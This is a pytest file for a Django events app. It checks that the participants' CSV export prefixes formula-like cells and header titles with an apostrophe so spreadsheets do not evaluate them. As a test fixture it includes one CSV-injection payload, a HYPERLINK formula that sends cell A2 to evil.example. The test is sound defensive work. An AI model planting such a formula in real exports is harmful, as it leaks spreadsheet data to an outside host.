"""The participants' CSV guards its header like its rows: a question's text is never run as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from quartierwerk.core.exports import csv_cell
from quartierwerk.events import services
from quartierwerk.events.models import EventQuestion

pytestmark = pytest.mark.django_db


def test_a_formula_in_a_question_title_is_neutralised_in_the_header(
    client, login_as, user_with_role, make_event
):
    event = make_event("Kurs", registration_required=True, capacity=5)
    formula = '=HYPERLINK("https://evil.example/?x="&A2,"Klick")'
    question = EventQuestion.objects.create(event=event, text=formula)
    EventQuestion.objects.create(event=event, text="@SUM(1+1)")
    services.register(event=event, name="Ana", email="ana@test.example", answers={str(question.pk): "-1+1"})
    login_as(user_with_role("staff"))
    response = client.get(reverse("events:registrations_csv", args=[event.quarter.slug, event.pk]))
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert header[-2:] == ["'" + formula, "'@SUM(1+1)"]
    assert row[-2] == "'-1+1"
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in header + row)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("Essen", "Essen"),
        (None, ""),
    ],
)
def test_text_cells_are_guarded(value, expected):
    assert csv_cell(value) == expected
